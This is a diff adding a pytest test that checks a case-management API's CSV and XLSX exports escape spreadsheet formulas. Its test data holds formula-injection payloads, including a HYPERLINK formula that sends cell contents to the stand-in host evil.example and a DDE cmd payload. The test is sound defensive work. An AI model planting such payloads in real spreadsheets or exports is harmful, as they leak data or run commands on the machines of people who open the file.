@@ -58,3 +58,28 @@ def test_export_refusals(city: City, user: str, status: int) -> None:
     params = {"format": "pdf"} if user == "op" else {}
     r = city.client.get("/api/v1/cases/export", params=params, headers=city.auth(user))
     assert r.status_code == status
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+
+
+@pytest.mark.parametrize(
+    ("title", "address"),
+    [(FORMULA, "@SUM(1+1)"), ("+1+cmd|' /C calc'!A0", "-2+3")],
+)
+def test_exports_never_hold_formulas(city: City, title: str, address: str) -> None:
+    case = city.create(title=title, address=address)
+    r = city.client.get("/api/v1/cases/export", params={"format": "csv"}, headers=city.auth("op"))
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    got = dict(zip(rows[0], rows[1], strict=True))
+    assert got["标题"] == "'" + title
+    assert got["地址"] == "'" + address
+    assert got["案件编号"] == case["number"]  # ordinary text is left alone
+
+    r = city.client.get("/api/v1/cases/export", params={"format": "xlsx"}, headers=city.auth("op"))
+    sheet = load_workbook(io.BytesIO(r.content))["cases"]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = [cell.value for cell in cells]
+    assert title in values  # the text itself, kept as a string cell
+    assert address in values
